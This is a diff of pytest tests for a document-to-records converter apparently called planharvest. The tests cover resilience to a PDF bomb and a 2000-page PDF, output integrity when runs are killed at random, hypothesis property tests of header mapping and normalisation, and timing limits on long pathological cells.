+    peak = peak_megabytes_of_convert(tmp_path / "in", tmp_path / "out")
+    assert documents(tmp_path / "out")["bomb.pdf"]["status"] == "failed"
+    assert peak < 500, peak
+
+
+@pytest.mark.slow
+@pytest.mark.xfail(reason="stitch._NUMBERED (see test_references_past_999...): rows A999 to "
+                          "A2331 come out as one row", strict=True)
+def test_a_two_thousand_page_pdf_converts(tmp_path: Path) -> None:
+    hostile.many_pages_pdf(tmp_path / "in" / "pages2000.pdf", 2000)
+    began = time.perf_counter()
+    convert([tmp_path / "in"], tmp_path / "out")
+    assert time.perf_counter() - began < 300
+    row = documents(tmp_path / "out")["pages2000.pdf"]
+    assert row["status"] == "ok" and row["pages"] == "2000" and row["actions_found"] == "4000"
+
+
+@pytest.mark.slow
+def test_runs_killed_at_random_moments_leave_only_complete_files(tmp_path: Path) -> None:
+    first = _flagged_plan(tmp_path / "a", "alpha.docx").parent
+    second = tmp_path / "b"
+    hostile.many_pages_pdf(second / "long.pdf", 100)
+    _flagged_plan(second, "beta.docx")
+    out = tmp_path / "out"
+    rng = random.Random(5)
+    for _ in range(5):
+        assert convert([first], out, "--no-cache").exit_code == 0
+        child = subprocess.Popen(
+            [sys.executable, "-m", "planharvest", "convert", str(second), "--out", str(out),
+             "--workers", "1", "--no-cache"], cwd=ROOT, stderr=subprocess.DEVNULL,
+            env={**os.environ, "PYTHONPATH": str(ROOT)})
+        time.sleep(rng.uniform(1.0, 5.0))
+        child.kill()
+        child.wait()
+        assert _problems_in_outputs(out) == []
+
+
+# -- property tests: header mapper, action assembler, normalisers (time-bounded) ---------------
+
+_LABELS = st.sampled_from(["Action", "Actions", "Lead", "Lead Officer", "By whom?", "Deadline",
+                           "Time Scale", "Target date", "RAG", "Ref", "Progress", "Milestones",
+                           "Partners", "KPI", "Outcome", "", " ", "\n", "Owner\n(lead agency)",
+                           "LAA Outcome(s)", "Block", "Theme"])
+_TEXTS = st.one_of(st.text(max_size=80), _LABELS)
+
+
+@settings(max_examples=300, deadline=500)
+@given(st.lists(_TEXTS, max_size=15))
+def test_the_header_mapper_never_raises_and_names_only_known_fields(texts: list[str]) -> None:
+    mapping = map_header_row(texts, Settings())
+    assert set(mapping) <= set(range(len(texts)))
+    assert set(mapping.values()) <= set(ACTION_FIELDS)
+    for text in texts:
+        context_field(text, Settings())
+        assert fold_label(text) == fold_label(fold_label(text))
+
+
+@st.composite
+def _grids(draw: st.DrawFn) -> Table:
+    """A table of random texts with random merges laid out the way readers lay them out."""
+    n_cols = draw(st.integers(1, 6))
+    rows = []
+    for r in range(draw(st.integers(0, 8))):
+        cells = []
+        c = 0
+        while c < n_cols:
+            span = draw(st.integers(1, n_cols - c))
+            cells.append(Cell(lines=draw(st.lists(_TEXTS, max_size=3)), col_span=span))
+            cells.extend(Cell(covered=True, origin=(r, c)) for _ in range(span - 1))
+            c += span
+        rows.append(Row(cells=cells, page=draw(st.none() | st.integers(1, 3)),
+                        is_header=draw(st.booleans()), continued=draw(st.booleans())))
+    return Table(rows=rows, n_cols=n_cols, ruled=draw(st.booleans()))
+
+
+@settings(max_examples=200, deadline=1000)
+@given(st.lists(st.one_of(_grids(), st.builds(Paragraph, _TEXTS, st.none() | st.integers(0, 3))),
+                max_size=6), st.text(max_size=40))
+def test_the_action_assembler_and_normalisers_never_raise_on_random_grids(
+        blocks: list, title: str) -> None:
+    for index, block in enumerate(blocks):
+        if isinstance(block, Table):
+            block.index = index
+    plan_title, raws = assemble_actions(DocumentContent(blocks=blocks, title=title), Settings())
+    assert isinstance(plan_title, str)
+    for raw in raws:
+        assert set(raw.fields) <= set(ACTION_FIELDS)
+    actions = normalise_actions(plan_title, raws, Source("plan.docx", "0" * 64, "docx"),
+                                _registries(), Settings())
+    assert len(actions) == len(raws)
+    assert len({action.record_id for action in actions}) == len(actions)
+
+
+@functools.cache
+def _registries() -> Registries:
+    return Registries.load()
+
+
+@settings(max_examples=200, deadline=500)
+@given(st.lists(st.text(max_size=60), max_size=6), st.text(max_size=30))
+def test_plan_period_and_indicator_codes_never_raise(texts: list[str], code: str) -> None:
+    period = plan_period(texts)
+    if period.start and period.end:
+        assert period.start <= period.end
+    assert canonical_code(canonical_code(code)) == canonical_code(code)
+
+
+_PATHOLOGICAL_UNITS = ["2006/07 ", "NI 1, ", "Police and ", "• ", "1.1 ", "(", "Red/",
+                       "word-\n", "\u00ad", "x" * 50 + " "]
+
+
+@pytest.mark.parametrize("unit", _PATHOLOGICAL_UNITS)
+def test_long_pathological_cells_stay_fast_in_every_normaliser(unit: str) -> None:
+    text = (unit * (20_000 // len(unit) + 1))[:20_000]
+    owners, indicators = OwnerRegistry.builtin(), IndicatorRegistry.builtin()
+    for normaliser in (clean_text, normalise_ref, split_multi_refs, parse_rag,
+                       lambda t: find_indicators(t, indicators),
+                       lambda t: parse_owners(t, owners, t), lambda t: cluster_unmatched([t]),
+                       lambda t: plan_period([t]), lambda t: map_header_row([t], Settings())):
+        began = time.perf_counter()
+        normaliser(text)
+        assert time.perf_counter() - began < 2.0, (normaliser, unit)
